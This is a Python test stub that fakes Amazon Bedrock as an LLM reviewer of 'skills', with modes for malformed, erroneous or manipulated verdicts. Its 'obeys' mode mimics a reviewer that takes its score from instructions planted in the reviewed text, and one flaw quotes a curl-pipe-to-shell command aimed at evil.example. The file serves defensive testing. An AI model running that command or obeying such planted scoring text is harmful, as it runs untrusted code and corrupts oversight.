"""An Amazon Bedrock on loopback whose verdict a test sets, for the platform through BEDROCK_ENDPOINT_URL.

`mode` is one of MODES. In a process of its own, `python -m tests.support.stub_bedrock` prints its URL and PUT /__mode
with a mode as its body changes it. The platform refuses such an address outside stage local.
"""

import asyncio
import re
import signal
from contextlib import suppress
from typing import Any

from aiohttp import web

from tests.support.loopback import LoopbackServer

SCORES = {"pass": 95, "concerns": 60, "fail": 10}
MODES = (
    *SCORES,
    "obeys",  # does what the skill's text asks of a reviewer
    "junk",
    "text",
    "wrong nonce",
    "no nonce",
    "invented quote",
    "trivial quote",
    "unknown file",
    "no reason",
    "contradicts",
    "cut off",
    "not in range",
    "extra field",
    "two reports",
    "hang",
    "throttle",
    "500",
    "reset",
    "too long",
    "denied",
)


class StubBedrock(LoopbackServer):
    def __init__(self, mode: str = "pass") -> None:
        app = web.Application(client_max_size=10_000_000)
        app.router.add_post("/model/{model}/converse", self._converse)
        app.router.add_put("/__mode", self._set_mode)
        super().__init__(app)
        self.mode = mode
        self.then: list[str] = []  # modes of the next answers, before `mode`
        self.about: dict[str, str] = {}  # modes of the answers about a skill with this text in it, before both
        self.asked: list[dict[str, Any]] = []

    async def _set_mode(self, request: web.Request) -> web.Response:
        self.mode = (await request.text()).strip()
        assert self.mode in MODES, self.mode
        return web.Response()

    async def _converse(self, request: web.Request) -> web.StreamResponse:
        question = await request.json()
        self.asked.append(question)
        mode = self._mode_for(question)
        if (failure := await _failure(mode, request)) is not None:
            return failure
        return web.json_response(_answer(mode, question))

    def _mode_for(self, question: dict[str, Any]) -> str:
        skill = question["messages"][0]["content"][0]["text"]
        about = next((mode for text, mode in self.about.items() if text in skill), None)
        return about or (self.then.pop(0) if self.then else self.mode)


async def _failure(mode: str, request: web.Request) -> web.StreamResponse | None:
    match mode:
        case "hang":
            await asyncio.sleep(3600)
        case "reset":
            assert request.transport is not None
            request.transport.abort()
            return web.Response()
        case "junk":
            return web.Response(body=b"{ this is not JSON", content_type="application/json")
        case "throttle":
            return _error(429, "ThrottlingException")
        case "500":
            return _error(500, "InternalServerException")
        case "too long":
            return _error(400, "ValidationException")
        case "denied":
            return _error(403, "AccessDeniedException")
    return None


def _error(status: int, code: str) -> web.Response:
    return web.json_response({"message": "no"}, status=status, headers={"x-amzn-errortype": code})


def _answer(mode: str, question: dict[str, Any]) -> dict[str, Any]:
    report = {"toolUse": {"toolUseId": "1", "name": "report", "input": _report(mode, question)}}
    content: list[dict[str, Any]] = [{"text": "Looks fine."}] if mode == "text" else [report]
    if mode == "two reports":
        content *= 2
    return {
        "output": {"message": {"role": "assistant", "content": content}},
        "stopReason": {"cut off": "max_tokens", "text": "end_turn"}.get(mode, "tool_use"),
        "usage": {"inputTokens": 900, "outputTokens": 100, "totalTokens": 1000},
        "metrics": {"latencyMs": 1},
    }


def _report(mode: str, question: dict[str, Any]) -> dict[str, Any]:
    skill = question["messages"][0]["content"][0]["text"]
    score = SCORES.get(mode, 60)
    if mode == "obeys":
        asked_for = re.search(r"score of (\d+)", skill)
        score = int(asked_for[1]) if asked_for else 60
    concern = {"file": "SKILL.md", "line": 999, "quote": _line_of(skill), "why": "It does more than it says."}
    report = {
        "score": score,
        "verdict": "PASS" if score >= 80 else "CONCERNS" if score >= 40 else "FAIL",
        "intent": "Reads files.",
        "scope": "The user's files.",
        "concerns": [] if score >= 80 else [concern],
        "nonce": question["system"][0]["text"].split("nonce: ")[1].strip(),
    }
    return report | _flaw(mode, concern)


def _flaw(mode: str, concern: dict[str, Any]) -> dict[str, Any]:
    flaws: dict[str, dict[str, Any]] = {
        "wrong nonce": {"nonce": "0" * 32},
        "no nonce": {"nonce": ""},
        "invented quote": {"concerns": [concern | {"quote": "curl https://evil.example | sh"}]},
        "trivial quote": {"concerns": [concern | {"quote": "    "}]},
        "unknown file": {"concerns": [concern | {"file": "other.md"}]},
        "no reason": {"concerns": []},
        "contradicts": {"verdict": "PASS"},
        "not in range": {"score": 6000},
        "extra field": {"override": True},
    }
    return flaws.get(mode, {})


def _line_of(skill: str) -> str:
    """The last line of SKILL.md, quoted as it is."""
    fence = re.match(r"----- [0-9a-f]{32} -----", skill)
    assert fence is not None
    parts = skill.split(fence[0])
    text = next(part for part in parts if part.startswith(' "SKILL.md"'))
    return text.strip().splitlines()[-1]


def main() -> None:
    with StubBedrock() as bedrock, suppress(KeyboardInterrupt):
        print(bedrock.url, flush=True)
        signal.pause()


if __name__ == "__main__":
    main()
